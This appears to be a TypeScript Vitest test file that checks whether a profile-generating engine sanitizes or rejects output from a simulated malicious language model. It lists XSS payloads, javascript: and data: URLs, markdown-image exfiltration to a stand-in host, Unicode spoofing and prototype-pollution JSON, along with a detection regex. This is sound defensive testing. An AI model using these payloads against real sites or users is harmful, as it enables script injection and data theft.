import { afterAll, describe, expect, it } from 'vitest';
import { icpAnswerPairs } from '../testing/icps.ts';
import { engineAt } from '../testing/provider/engine.ts';
import { answersWith } from '../testing/provider/faults.ts';
import { sample } from '../testing/provider/sample.ts';
import { startProvider, validAnswer } from '../testing/provider/server.ts';
import { textsOf } from '../testing/texts.ts';

/** Inserted into every text of an otherwise valid answer. */
const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<<b>script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://mal.example"></iframe>',
  '<a href="javascript:alert(1)">clique</a>',
  '<!-- --><style>*{display:none}</style>',
  '<b onmouseover=alert(1)',
  '![x](https://mal.example/p.png?d=segredo)',
  '![x]( https://mal.example/p.png',
  '[![x](https://a.example)](https://b.example)',
  '[clique](javascript:alert(1))',
  '[clique](data:text/html,<script>1</script>)',
  '[a[b](c)](https://mal.example)',
  '[x]: https://mal.example/roubo',
  'https://mal.example/?q=segredo',
  'HTTPS://MAL.EXAMPLE/x',
  'www.mal.example/x',
  'ftp://mal.example/x',
  'weird+scheme://mal.example',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'java\u200bscript:alert(1)',
  'ht\u200btps://mal.example',
  '<\u200bscript>alert(1)</script>',
  'a\u202egnp.exe',
  'nulo\u0000aqui',
  '\ud800 meio par',
  '<'.repeat(500),
  '['.repeat(500),
  'https://'.repeat(200),
  'x'.repeat(20_000),
  '\n'.repeat(5_000),
];
/** Answers that contain no valid object. */
const INVALID_ANSWERS = [
  '',
  ' ',
  'null',
  '[]',
  '42',
  '"texto"',
  '{',
  '}{',
  '{}',
  '{"setor":',
  '{"setor":"a"}{"setor":"b"}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  `{"setor":${'['.repeat(5_000)}${']'.repeat(5_000)}}`,
  '```json\n{"setor": undefined}\n```',
  '<html><body>Bad gateway</body></html>',
  'Desculpe, não posso ajudar com isso.',
  `{"setor":"${'x'.repeat(1_000_000)}"}`,
];

const ACTIVE = /<[a-z/!]|\]\(|:\/\/|www\.|javascript:|[\p{Cf}\p{Cs}]/iu;

describe('icpProfile with a malicious model', async () => {
  const provider = await startProvider();
  afterAll(() => provider.close());
  const engine = engineAt(provider, { budgetMs: 60_000 });
  const input = {
    answers: icpAnswerPairs('Varejo', 'Pequenas empresas', 'lojistas em Recife'),
    icpName: 'Lojistas',
    sellerAnswers: null,
    language: 'pt-BR',
  } as const;

  it.each(HOSTILE_TEXTS.map((text) => [text.slice(0, 40), text] as const))(
    'sanitizes and limits all texts, or rejects the answer: %s',
    async (_name, hostile) => {
      provider.always((res, request) => {
        const valid = sample(request.schema ?? {}, 1);
        const answer = JSON.stringify(withTexts(valid, (text) => `${hostile} ${text} ${hostile}`));
        answersWith(answer)(res, request, '');
      });
      const texts = textsOf(await engine.icpProfile(input).catch(expectBadOutput));
      provider.always(null);
      expect(texts.filter((text) => ACTIVE.test(text))).toEqual([]);
      expect(Math.max(...texts.map((text) => text.length))).toBeLessThanOrEqual(1_201);
    },
  );

  it.each(INVALID_ANSWERS.map((answer) => [answer.slice(0, 40), answer] as const))(
    'rejects an invalid answer after one repair request: %s',
    async (_name, answer) => {
      const before = provider.requests.length;
      provider.next(answersWith(answer), answersWith(answer));
      await expect(engine.icpProfile(input)).rejects.toMatchObject({ kind: 'bad_output' });
      expect(provider.requests.length - before).toBe(2);
      expect('polluted' in {}).toBe(false);
    },
  );

  it('ignores unknown keys', async () => {
    provider.next((res, request) => {
      const valid = JSON.parse(validAnswer(request, 1));
      answersWith(JSON.stringify({ ...valid, admin: true, userId: 'x' }))(res, request, '');
    });
    expect(JSON.stringify(await engine.icpProfile(input))).not.toMatch(/admin|userId/);
  });
});

/** An answer is rejected when a text is empty after sanitizing. */
function expectBadOutput(error: unknown): null {
  expect(error).toMatchObject({ kind: 'bad_output' });
  return null;
}

/** The same value with every text changed. */
function withTexts(value: unknown, change: (text: string) => string): unknown {
  if (typeof value === 'string') return change(value);
  if (Array.isArray(value)) return value.map((item) => withTexts(item, change));
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).map(([key, inner]) => [key, withTexts(inner, change)]);
  return Object.fromEntries(entries);
}
